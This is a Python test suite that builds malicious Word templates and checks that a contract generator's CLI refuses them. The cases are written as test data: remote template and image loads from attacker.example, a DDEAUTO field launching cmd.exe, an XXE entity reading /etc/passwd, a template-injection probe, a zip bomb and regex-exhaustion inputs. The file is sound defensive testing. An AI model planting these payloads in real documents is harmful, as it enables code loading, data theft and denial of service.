"""A user's own Word template (``--docx-template``): a corpus of crafted templates, each rendered through the
command line, each refused with its exit code and message — or filled, when it holds nothing Word would fetch.

Every template is built here from a real document made with python-docx, by rewriting its members (XML text,
relationships, content types) and, for the damaged ones, the zip itself: :func:`zip_bytes` writes the local
headers, the central directory and the end record by hand, so a case can give a member a wrong CRC, a cut
deflate stream, a broken local header, an encrypted flag or a size it does not have. A new kind of attack is one
more line in :data:`CASES`. What each refusal must also keep: no traceback, no exit 1, and no output folder.
"""

from __future__ import annotations

import functools
import io
import os
import re
import signal
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner
from output_listing import entries
from render_helpers import SAMPLE, docx_text

from contractgen.cli import cli
from contractgen.document import budget
from contractgen.writers import user_docx_checks

pytestmark = pytest.mark.slow

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
PIC = 'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
DOCUMENT = "word/document.xml"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
OUTPUT = "KF-2026-0001-模板-T.docx"
EVIL = "https://attacker.example"
SHORT = 0.5  # seconds: the budget the slow templates get
SLACK = 4.0  # seconds a budget may overrun on a busy machine (the house DOCX is rendered first, too)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


# --- the builder ------------------------------------------------------------------------------------------


@dataclass
class Member:
    """One zip member as it is written: its data, and whatever a case makes its headers say instead."""

    name: str
    data: bytes
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    crc: int | None = None  # None: the data's
    raw: bytes | None = None  # the stored bytes; None: the data, deflated if the method says so
    size: int | None = None  # the uncompressed size the headers claim; None: the data's
    signature: bytes = b"PK\x03\x04"  # of the local header


def deflate(data: bytes, level: int = 6) -> bytes:
    compressor = zlib.compressobj(level, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def zip_bytes(members: list[Member]) -> bytes:
    """A zip of ``members``, headers written by hand (no zip64, no extras, every date 1980-01-01)."""
    out, central = bytearray(), bytearray()
    for member in members:
        raw = member.raw
        if raw is None:
            raw = deflate(member.data) if member.method == zipfile.ZIP_DEFLATED else member.data
        crc = zlib.crc32(member.data) if member.crc is None else member.crc
        size = len(member.data) if member.size is None else member.size
        name = member.name.encode()
        fields = (member.flags, member.method, 0, 0x21, crc, len(raw), size, len(name), 0)
        central += b"PK\x01\x02" + bytes((20, 0, 20, 0))
        central += struct.pack("<HHHHLLLHHHHHLL", *fields, 0, 0, 0, 0o644 << 16, len(out)) + name
        out += member.signature + bytes((20, 0)) + struct.pack("<HHHHLLLHH", *fields) + name + raw
    count = len(members)
    return bytes(out + central) + struct.pack(
        "<4sHHHHLLH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0
    )


@functools.cache
def base_members() -> tuple[tuple[str, bytes], ...]:
    import docx

    document = docx.Document()
    document.add_paragraph("致：{{ party_a.name }}")
    document.add_paragraph("合同编号：{{ contract_no }}")
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return tuple((info.filename, archive.read(info)) for info in archive.infolist())


class Template:
    """A python-docx document, to be rewritten member by member."""

    def __init__(self) -> None:
        self.members = [Member(name, data) for name, data in base_members()]

    def member(self, name: str) -> Member:
        return next(m for m in self.members if m.name == name)

    def edit(self, name: str, old: str, new: str) -> Template:
        member = self.member(name)
        text = member.data.decode("utf-8")
        assert old in text, (name, old)
        member.data = text.replace(old, new, 1).encode("utf-8")
        return self

    def body(self, xml: str) -> Template:
        """A paragraph holding ``xml`` (runs, fields, objects) at the end of the body."""
        return self.edit(DOCUMENT, "<w:sectPr", f"<w:p>{xml}</w:p><w:sectPr")

    def settings(self, xml: str) -> Template:
        member = self.member("word/settings.xml")
        member.data = re.sub(rb"(<w:settings[^>]*>)", lambda m: m.group(1) + xml.encode(), member.data, count=1)
        return self

    def add(self, name: str, data: bytes | str, content_type: str | None = None) -> Template:
        self.members.append(Member(name, data.encode("utf-8") if isinstance(data, str) else data))
        if content_type:
            override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
            self.edit("[Content_Types].xml", "</Types>", f"{override}</Types>")
        return self

    def relate(self, rels: str, rid: str, kind: str, target: str, *, external: bool = True) -> Template:
        """A relationship in the part ``rels`` (made if missing); ``kind`` is short for an OOXML type."""
        if not any(m.name == rels for m in self.members):
            xmlns = "http://schemas.openxmlformats.org/package/2006/relationships"
            self.add(rels, f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{xmlns}"></Relationships>')
        mode = ' TargetMode="External"' if external else ""
        kind = kind if "://" in kind else REL + kind
        line = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
        return self.edit(rels, "</Relationships>", f"{line}</Relationships>")

    def rename(self, old: str, new: str) -> Template:
        self.member(old).name = new
        return self

    def drop(self, name: str) -> Template:
        self.members = [m for m in self.members if m.name != name]
        return self

    def damage(self, name: str, **headers: object) -> Template:
        member = self.member(name)
        for key, value in headers.items():
            setattr(member, key, value)
        return self

    def build(self) -> bytes:
        return zip_bytes(self.members)


def instruction(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def field(code: str, result: str = "x") -> str:
    """A complex field: begin, the instruction (one run per piece, ``|`` between pieces), separate, result, end."""
    runs = "".join(instruction(piece) for piece in code.split("|"))
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def nested(before: str, inner: str, after: str) -> str:
    """A field whose instruction is ``before``, then the field ``inner``, then ``after``."""
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{instruction(before)}{field(inner)}{instruction(after)}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def drawing(attribute: str) -> str:
    """An inline picture whose blip has ``attribute`` (``r:embed="…"`` or ``r:link="…"``)."""
    return (
        f'<w:r><w:drawing><wp:inline><a:graphic {A}><a:graphicData uri="http://schemas.openxmlformats.org/'
        f'drawingml/2006/picture"><pic:pic {PIC}><pic:blipFill><a:blip {attribute}/></pic:blipFill></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def hyperlink(rid: str, text: str = "条款") -> str:
    return f'<w:hyperlink r:id="{rid}"><w:r><w:t>{text}</w:t></w:r></w:hyperlink>'


def utf16_with_doctype() -> Template:
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]><d>&x;</d>'
    return Template().drop("customXml/item1.xml").add("customXml/item1.xml", xml.encode("utf-16"))


def stored_deflate_with_a_flipped_byte() -> bytes:
    """word/document.xml deflated in stored blocks, one byte of its text flipped: a valid stream, a bad CRC."""
    data = dict(base_members())[DOCUMENT]
    raw = bytearray(deflate(data, level=0))
    raw[len(raw) // 2] ^= 0x20
    return bytes(raw)


def many_parts() -> Template:
    template = Template()
    for n in range(500):
        template.add(f"customXml/extra{n}.txt", b"")
    return template


def ratio_bomb() -> Template:
    return Template().add("word/media/image1.png", b"\0" * (5 * 1024 * 1024))


# --- the corpus -------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    build: Callable[[], bytes]
    code: int
    fragment: str = ""  # of the message, when refused
    kept: tuple[tuple[str, str], ...] = ()  # (part, fragment) the filled document holds, when filled


def refused(build: Callable[[], Template | bytes], fragment: str, code: int = 4) -> Case:
    return Case(lambda: _bytes(build()), code, fragment)


def kept(build: Callable[[], Template], *holds: tuple[str, str]) -> Case:
    return Case(lambda: build().build(), 0, kept=holds)


def _bytes(made: Template | bytes) -> bytes:
    return made if isinstance(made, bytes) else made.build()


CASES: dict[str, Case] = {
    # -- relationships Word follows when it opens the file
    "external-image": refused(
        lambda: Template().relate(DOCUMENT_RELS, "rId90", "image", f"{EVIL}/pixel.png").body(drawing('r:link="rId90"')),
        f"引用了外部资源 {EVIL}/pixel.png（image）",
    ),
    "remote-attached-template": refused(
        lambda: (
            Template()
            .settings('<w:attachedTemplate r:id="rId1"/>')
            .relate("word/_rels/settings.xml.rels", "rId1", "attachedTemplate", f"{EVIL}/normal.dotm")
        ),
        "word/_rels/settings.xml.rels 引用了外部资源",
    ),
    "attached-template-on-a-share-without-target-mode": refused(
        lambda: (
            Template()
            .settings('<w:attachedTemplate r:id="rId1"/>')
            .relate(
                "word/_rels/settings.xml.rels", "rId1", "attachedTemplate", r"\\attacker\share\t.dotx", external=False
            )
        ),
        "（attachedTemplate）",
    ),
    "ole-object-link": refused(
        lambda: (
            Template()
            .relate(DOCUMENT_RELS, "rId91", "oleObject", "file:///C:/data/prices.xlsx")
            .body(
                '<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rId91" UpdateMode="Always"/>'
                "</w:object></w:r>"
            )
        ),
        "（oleObject）",
    ),
    "ole-object-link-to-an-internal-part": refused(
        lambda: (
            Template()
            .add("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")
            .relate(DOCUMENT_RELS, "rId91", "oleObject", "embeddings/oleObject1.bin", external=False)
            .body('<w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document.12" r:id="rId91"/></w:object></w:r>')
        ),
        "链接的 OLE 对象",
    ),
    "subdocument": refused(
        lambda: (
            Template()
            .relate(DOCUMENT_RELS, "rId92", "subDocument", "file:///C:/contracts/annex.docx")
            .edit(DOCUMENT, "<w:sectPr", '<w:subDoc r:id="rId92"/><w:sectPr')
        ),
        "（subDocument）",
    ),
    "frame-in-web-settings": refused(
        lambda: Template().relate("word/_rels/webSettings.xml.rels", "rId1", "frame", f"{EVIL}/frame.docx"),
        "（frame）",
    ),
    "external-relationship-in-upper-case-rels": refused(
        lambda: (
            Template()
            .rename(DOCUMENT_RELS, "word/_rels/document.xml.RELS")
            .relate("word/_rels/document.xml.RELS", "rId90", "image", f"{EVIL}/pixel.png")
        ),
        "document.xml.RELS 引用了外部资源",
    ),
    "look-alike-hyperlink-type": refused(
        lambda: Template().relate(DOCUMENT_RELS, "rId90", "http://attacker.example/hyperlink", f"{EVIL}/x.png"),
        "（http://attacker.example/hyperlink）",
    ),
    "hyperlink-used-as-an-image": refused(
        lambda: Template().relate(DOCUMENT_RELS, "rId90", "hyperlink", f"{EVIL}/x.png").body(drawing('r:link="rId90"')),
        "blip 引用了超链接 rId90",
    ),
    "hyperlink-to-a-file": refused(
        lambda: Template().relate(DOCUMENT_RELS, "rId90", "hyperlink", "file:///etc/passwd").body(hyperlink("rId90")),
        "超链接 file:///etc/passwd 只能指向 http、https 或 mailto 地址",
    ),
    # -- fields Word updates
    "includepicture-simple-field": refused(
        lambda: Template().body(
            f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{EVIL}/x.png&quot; \\d ">'
            "<w:r><w:t>x</w:t></w:r></w:fldSimple>"
        ),
        "含有域代码 INCLUDEPICTURE",
    ),
    "includepicture-complex-field": refused(
        lambda: Template().body(field(f' INCLUDEPICTURE "{EVIL}/x.png" \\* MERGEFORMATINET ')),
        "含有域代码 INCLUDEPICTURE",
    ),
    "includepicture-split-over-runs-in-lower-case": refused(
        lambda: Template().body(field(f'include|Picture "{EVIL}/x.png"')), "含有域代码 INCLUDEPICTURE"
    ),
    "includetext-field": refused(lambda: Template().body(field(r'INCLUDETEXT "C:\\secret.docx"')), "INCLUDETEXT"),
    "link-field": refused(lambda: Template().body(field(r'LINK Excel.Sheet.12 "C:\\x.xlsx" "Sheet1!R1C1" \a')), "LINK"),
    "ddeauto-field": refused(
        lambda: Template().body(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"')), "DDEAUTO"
    ),
    "database-field": refused(lambda: Template().body(field(r'DATABASE \d "C:\\db.mdb" \s "SELECT *"')), "DATABASE"),
    "field-type-computed-by-a-nested-field": refused(
        lambda: Template().body(nested(" ", 'QUOTE "INCLUDEPICTURE"', f' "{EVIL}/x.png" ')), "类型由嵌套域计算得出"
    ),
    "field-type-completed-by-a-nested-field": refused(
        lambda: Template().body(nested("IN", 'QUOTE "CLUDEPICTURE"', f' "{EVIL}/x.png" ')), "类型由嵌套域计算得出"
    ),
    "hyperlink-field-to-a-share": refused(
        lambda: Template().body(field(r'HYPERLINK "\\\\attacker\\share\\x.docx" \o "tip"')),
        "只能指向 http、https 或 mailto",
    ),
    "hyperlink-field-with-a-computed-address": refused(
        lambda: Template().body(nested("HYPERLINK ", 'QUOTE "file:///etc/passwd"', "")), "地址由嵌套域计算得出"
    ),
    "field-in-a-part-outside-word": refused(
        lambda: Template().add(
            "custom/extra.xml", f'<w:p xmlns:w="{W}"><w:fldSimple w:instr="INCLUDETEXT x.docx"/></w:p>'
        ),
        "custom/extra.xml 含有域代码 INCLUDETEXT",
    ),
    "field-in-a-part-xml-by-its-content-type-only": refused(
        lambda: Template().add(
            "word/glossary.bin",
            f'<w:p xmlns:w="{W}"><w:fldSimple w:instr="DDE Excel x.xlsx R1C1"/></w:p>',
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
        ),
        "word/glossary.bin 含有域代码 DDE",
    ),
    "field-spelt-out-by-placeholders": refused(
        lambda: Template().body(field('{{ "INCLUDE" ~ "PICTURE" }} "https://attacker.example/x.png"')),
        "（填写后）: Word 模板的部件 word/document.xml 含有域代码 INCLUDEPICTURE",  # only the filled one holds it
    ),
    # -- other content
    "mail-merge": refused(
        lambda: Template().settings(
            '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
            '<w:query w:val="SELECT * FROM `x`"/></w:mailMerge>'
        ),
        "邮件合并数据源（mailMerge）",
    ),
    "altchunk": refused(
        lambda: (
            Template()
            .add("word/afchunk.htm", "<html><img src='https://attacker.example/x.png'></html>", "text/html")
            .relate(DOCUMENT_RELS, "rId93", "aFChunk", "afchunk.htm", external=False)
            .edit(DOCUMENT, "<w:sectPr", '<w:altChunk r:id="rId93"/><w:sectPr')
        ),
        "altChunk",
    ),
    "altchunk-under-another-relationship-type": refused(
        lambda: (
            Template()
            .add("word/afchunk.htm", "<html></html>", "text/html")
            .relate(DOCUMENT_RELS, "rId93", "http://attacker.example/import", "afchunk.htm", external=False)
            .edit(DOCUMENT, "<w:sectPr", '<w:altChunk r:id="rId93"/><w:sectPr')
        ),
        "（altChunk）",
    ),
    "vml-image-with-a-url": refused(
        lambda: Template().body(f'<w:r><w:pict><v:shape><v:imagedata src="{EVIL}/x.png"/></v:shape></w:pict></w:r>'),
        f"图形引用了外部资源 {EVIL}/x.png",
    ),
    "vml-image-on-a-share": refused(
        lambda: Template().body(
            r'<w:r><w:pict><v:shape><v:imagedata o:href="\\attacker\share\x.png"/></v:shape></w:pict></w:r>'
        ),
        "图形引用了外部资源",
    ),
    # -- XML
    "doctype": refused(
        lambda: Template().edit(DOCUMENT, "?>", '?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "DOCTYPE"
    ),
    "doctype-in-utf-16": refused(utf16_with_doctype, "customXml/item1.xml 含有 DOCTYPE"),
    "malformed-xml": refused(lambda: Template().edit(DOCUMENT, "</w:body>", "</w:bod>"), "不是合法的 XML"),
    # -- the zip
    "not-a-zip": refused(lambda: b"%PDF-1.7\n" + b"x" * 100, "不是有效的 Word（.docx）文件"),
    "no-word-document": refused(lambda: Template().drop(DOCUMENT), "缺少 word/document.xml"),
    "parts-differing-only-in-case": refused(
        lambda: Template().add("Word/Document.xml", dict(base_members())[DOCUMENT]), "重复的部件 Word/Document.xml"
    ),
    "bad-crc-from-flipped-bytes": refused(
        lambda: Template().damage(DOCUMENT, raw=stored_deflate_with_a_flipped_byte()), "已损坏：部件 word/document.xml"
    ),
    "invalid-deflate-stream": refused(
        lambda: Template().damage("word/styles.xml", raw=b"\xff" * 64), "已损坏：部件 word/styles.xml"
    ),
    "truncated-deflate-stream": refused(
        lambda: Template().damage("word/styles.xml", raw=deflate(dict(base_members())["word/styles.xml"])[:2000]),
        "已损坏：部件 word/styles.xml",
    ),
    "broken-local-header": refused(
        lambda: Template().damage("word/settings.xml", signature=b"PK\x03\x05"), "已损坏：部件 word/settings.xml"
    ),
    "encrypted-member": refused(lambda: Template().damage("word/fontTable.xml", flags=0x1), "fontTable.xml 已加密"),
    "unknown-compression-method": refused(lambda: Template().damage("word/theme/theme1.xml", method=99), "已损坏"),
    "zip-bomb": refused(ratio_bomb, "压缩比异常（疑似压缩炸弹）"),
    "sizes-claiming-too-much": refused(lambda: Template().damage("word/styles.xml", size=65 * 1024 * 1024), "超过上限"),
    "too-many-parts": refused(many_parts, "超过上限 500"),
    # -- placeholders
    "placeholder-syntax-error": refused(
        lambda: Template().body("<w:r><w:t>{{ party_a.name }</w:t></w:r>"), "占位符有误"
    ),
    "placeholder-reaching-python-internals": refused(
        lambda: Template().body("<w:r><w:t>{{ cn_number.__globals__ }}</w:t></w:r>"), "'__globals__'"
    ),
    # -- kept
    "plain-placeholders": kept(Template),
    "hyperlink-to-https": kept(
        lambda: (
            Template().relate(DOCUMENT_RELS, "rId90", "hyperlink", "https://example.com/terms").body(hyperlink("rId90"))
        ),
        (DOCUMENT_RELS, f'Id="rId90" Type="{REL}hyperlink" Target="https://example.com/terms" TargetMode="External"'),
        (DOCUMENT, '<w:hyperlink r:id="rId90">'),
    ),
    "hyperlink-to-mailto": kept(
        lambda: (
            Template().relate(DOCUMENT_RELS, "rId90", "hyperlink", "mailto:legal@example.com").body(hyperlink("rId90"))
        ),
        (DOCUMENT_RELS, 'Target="mailto:legal@example.com" TargetMode="External"'),
    ),
    "hyperlink-to-a-malformed-https-address": kept(
        lambda: Template().relate(DOCUMENT_RELS, "rId90", "hyperlink", "https://[example.com").body(hyperlink("rId90")),
        (DOCUMENT_RELS, 'Target="https://[example.com" TargetMode="External"'),
    ),
    "hyperlink-fields-and-ordinary-fields": kept(
        lambda: Template().body(
            field('HYPERLINK "https://example.com/terms" \\o "条款"')
            + field('HYPERLINK \\l "_Toc1"')
            + nested("IF ", "PAGE", ' = 1 "首页" "续页"')
            + field("PAGE \\* MERGEFORMAT")
        ),
        (DOCUMENT, 'HYPERLINK "https://example.com/terms"'),
        (DOCUMENT, "PAGE \\* MERGEFORMAT"),
    ),
}


def run(*args: str) -> tuple[int, str, object]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stderr + result.stdout, result.exception


def render_with(template: Path, out: Path) -> tuple[int, str, object]:
    return run("render", str(SAMPLE), "-o", str(out), "--to", "docx", "--docx-template", str(template))


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_a_crafted_word_template_is_refused_with_its_reason_or_filled(case: Case, tmp_path: Path) -> None:
    template = tmp_path / "T.docx"
    template.write_bytes(case.build())
    out = tmp_path / "out"
    exit_code, output, exception = render_with(template, out)
    assert "Traceback" not in output
    assert exception is None or isinstance(exception, SystemExit), repr(exception)
    assert exit_code == case.code, output
    if case.code:
        assert case.fragment in output, output
        assert str(template) in output, "the message names the template"
        assert not out.exists(), "a refused template leaves no output folder"
        return
    assert [p.name for p in entries(out)] == sorted(["KF-2026-0001.docx", OUTPUT])
    filled = (out / OUTPUT).read_bytes()
    assert "致：上海明远科技有限公司" in docx_text(filled)
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        for part, fragment in case.kept:
            assert fragment in archive.read(part).decode("utf-8"), (part, fragment)


def test_the_corpus_holds_refusals_and_templates_that_are_filled() -> None:
    refusals = [c for c in CASES.values() if c.code]
    assert len(refusals) >= 40
    assert len(CASES) - len(refusals) >= 4


SLOW_TEMPLATES = {
    "nested-loops-of-ten-billion-steps": (
        "{% for a in range(100000) %}{% for b in range(100000) %}{{ a }}{% endfor %}{% endfor %}"
    ),
    # docxtpl's own clean-up of the placeholders is a regular expression that backtracks over a whole paragraph
    # for each "{{": quadratic, inside re — where only the alarm reaches it.
    "docxtpls-regex-over-a-paragraph-of-openings": "{{" * 100_000,
}


@pytest.mark.parametrize("text", SLOW_TEMPLATES.values(), ids=SLOW_TEMPLATES.keys())
def test_a_template_that_would_run_for_hours_fails_within_the_budget(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(budget, "TIME_BUDGET", SHORT)
    template = tmp_path / "T.docx"
    template.write_bytes(Template().body(f"<w:r><w:t>{text}</w:t></w:r>").build())
    start = time.monotonic()
    code, output, _ = render_with(template, tmp_path / "out")
    assert time.monotonic() - start < SHORT + SLACK
    assert code == 4, output
    assert f"{template}: Word 模板渲染超过时间上限（0.5 秒）" in output
    assert "Traceback" not in output
    assert not (tmp_path / "out").exists()
    assert (signal.getsignal(signal.SIGALRM), signal.getitimer(signal.ITIMER_REAL)) == (signal.SIG_DFL, (0.0, 0.0))


def special_files(folder: Path) -> list[Path]:
    found = [Path("/dev/zero")] if Path("/dev/zero").exists() else []
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "pipe.docx")  # no writer: opening it for reading the usual way would block
        found.append(folder / "pipe.docx")
    return found


def test_a_device_or_a_pipe_is_not_read_as_a_template(tmp_path: Path) -> None:
    for path in special_files(tmp_path):
        code, output, _ = render_with(path, tmp_path / "out")
        assert code == 3, output
        assert f"Word 模板 {path} 不是普通文件" in output
        assert not (tmp_path / "out").exists()


def test_a_template_file_bigger_than_the_limit_is_refused_unread(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(user_docx_checks, "MAX_FILE_SIZE", 10_000)
    template = tmp_path / "T.docx"
    template.write_bytes(Template().build())
    code, output, _ = render_with(template, tmp_path / "out")
    assert code == 4, output
    assert "超过上限 10000" in output
    assert not (tmp_path / "out").exists()
